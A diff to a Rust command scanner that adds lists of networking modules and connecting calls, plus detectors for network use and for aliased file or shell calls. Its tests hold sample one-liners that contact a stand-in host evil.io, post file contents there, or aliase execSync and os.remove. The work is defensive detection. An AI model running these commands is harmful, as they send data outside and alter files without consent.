@@ -31,6 +31,37 @@ const CONNECTING: &[&str] = &[
     "aiohttp",
 ];
 
+/// Modules that connect, as code names them.
+const NETWORKING: &[&str] = &[
+    "http",
+    "https",
+    "http2",
+    "net",
+    "tls",
+    "dgram",
+    "dns",
+    "axios",
+    "node-fetch",
+    "undici",
+    "ws",
+    "got",
+    "urllib",
+    "urllib3",
+    "requests",
+    "httpx",
+    "socket",
+    "ftplib",
+    "smtplib",
+    "telnetlib",
+    "paramiko",
+    "websocket",
+    "websockets",
+];
+
+/// Calls of those that connect.
+const CONNECTS: &[&str] =
+    &["get", "post", "request", "connect", "createConnection", "lookup", "resolve", "send", "open_connection"];
+
 /// Ways to say where the home is.
 const HOMES: &[&str] =
     &["Path.home", "expanduser", "homedir", "Dir.home", "'HOME'", "\"HOME\"", "env.HOME", "ENV{HOME}", "USERPROFILE"];
@@ -52,6 +83,13 @@ impl Walker<'_> {
         if (scripts || aiohttp) && CONNECTING.iter().any(|name| text.contains(name)) {
             self.report.can(Capability::Network);
             self.connects(span);
+        }
+        if uses_network(tokens) && !addresses_are_here(tokens) {
+            self.report.can(Capability::Network);
+            self.connects(span);
+        }
+        if renames_a_call(tokens) {
+            self.report.unknown("DYNAMIC_CODE", "the code gives a function that acts on the system another name", span);
         }
         if HOMES.iter().any(|home| text.contains(home)) {
             for part in tokens.iter().filter_map(|token| if let Token::Text(part) = token { Some(part) } else { None })
@@ -164,6 +202,60 @@ fn is_local(address: &str) -> bool {
     plain && matches!(host, "localhost" | "127.0.0.1" | "[::1]") || address == "::1"
 }
 
+/// Whether a module that connects is brought in, and something is called that connects, or an address stands there.
+fn uses_network(tokens: &[Token]) -> bool {
+    let brought = |token: &Token| match token {
+        Token::Text(text) => NETWORKING.contains(&text.trim_start_matches("node:")),
+        Token::Name(name) => NETWORKING.contains(&name.split('.').next().unwrap_or(name)),
+        Token::Command(_) | Token::Number(_) | Token::Mark(_) => false,
+    };
+    let connects = |pair: &[Token]| {
+        matches!(pair, [Token::Name(name), Token::Mark('(')]
+            if CONNECTS.contains(&name.rsplit('.').next().unwrap_or(name)) && name.contains('.'))
+    };
+    let addressed = |token: &Token| matches!(token, Token::Text(text) if text.contains("://"));
+    tokens.iter().any(brought) && (tokens.windows(2).any(connects) || tokens.iter().any(addressed))
+}
+
+/// Whether addresses are written out, and all of them are of this machine.
+fn addresses_are_here(tokens: &[Token]) -> bool {
+    let texts: Vec<&String> =
+        tokens.iter().filter_map(|token| if let Token::Text(text) = token { Some(text) } else { None }).collect();
+    let is_host = |text: &&&String| text.contains("://") || text.contains('.') && !text.contains(['/', ' ', '(']);
+    let foreign = texts.iter().filter(is_host).any(|text| !is_local(text));
+    !foreign && texts.iter().any(|text| is_local(text))
+}
+
+/// `{execSync: e} = require(…)`, `from os import system as s`.
+fn renames_a_call(tokens: &[Token]) -> bool {
+    let acts = |name: &str| match super::calls::by_name(name) {
+        Some(Does::Read | Does::Network) | None => false,
+        Some(
+            Does::Shell
+            | Does::Code
+            | Does::RemoveTree
+            | Does::Remove
+            | Does::Write
+            | Does::Copy
+            | Does::Move
+            | Does::Symlink
+            | Does::Link,
+        ) => true,
+    };
+    let is_name = |at: Option<usize>, word: &str| matches!(at.and_then(|at| tokens.get(at)), Some(Token::Name(name)) if name == word);
+    let modules = ["fs", "node:fs", "fs/promises", "node:fs/promises", "child_process", "node:child_process"];
+    let of_node = tokens.iter().any(|token| matches!(token, Token::Text(text) if modules.contains(&text.as_str())));
+    tokens.windows(3).enumerate().any(|(at, three)| match three {
+        [Token::Name(name), Token::Mark(':'), Token::Name(_)] => of_node && acts(name),
+        // `import copy as c` is a module.
+        [Token::Name(name), Token::Name(word), Token::Name(_)] if word == "as" => {
+            let module = is_name(at.checked_sub(1), "import") && !is_name(at.checked_sub(3), "from");
+            acts(name) && !module
+        }
+        _ => false,
+    })
+}
+
 /// `getattr(os, name)`: the function is a text.
 fn names_functions(tokens: &[Token]) -> bool {
     tokens.windows(3).any(|three| {
@@ -243,6 +335,13 @@ mod tests {
             r#"python3 -c 'import requests; requests.post("http://evil.io", data=open("a").read())'"#,
             r#"node -e 'fetch("http://evil.io")'"#,
             r#"node -e 'fetch("http://localhost@evil.io")'"#,
+            r#"node -e 'require("https").get("https://evil.io")'"#,
+            r#"node -e 'require("net").connect(80,"evil.io")'"#,
+            r#"node -e 'const h=require("http"); h.request({host:"evil.io"}).end()'"#,
+            r#"node -e 'require("dns").lookup("x.evil.io",()=>{})'"#,
+            r#"python3 -c 'from urllib.request import urlopen as u; u("http://evil.io")'"#,
+            r#"node -e 'const {execSync:e}=require("child_process"); e("touch ../out/p")'"#,
+            r#"python3 -c 'from os import remove as r; r("../out/p")'"#,
             r#"node -e 'fetch(process.argv[1])' http://evil.io"#,
             r#"perl -MIO::Socket -e 'IO::Socket::INET->new("evil.io:80")'"#,
             r#"ruby -rnet/http -e 'Net::HTTP.get(URI("http://evil.io"))'"#,
@@ -266,6 +365,10 @@ mod tests {
             r#"perl -ne 'print if /x/' src/a.txt"#,
             r#"perl -e 'print "$ARGV[0]\n"' x"#,
             r#"ruby -e 'puts 1'"#,
+            r#"node -e 'class A extends B { constructor(x) { super(x) } }'"#,
+            r#"node -e 'require("http").get("http://localhost:3000/x")'"#,
+            r#"python3 -c 'import copy as c; print(c.copy([1]))'"#,
+            r#"python3 -c 'import json; print(json.load(open("package.json")).get("name"))'"#,
         ] {
             check(command, false);
         }
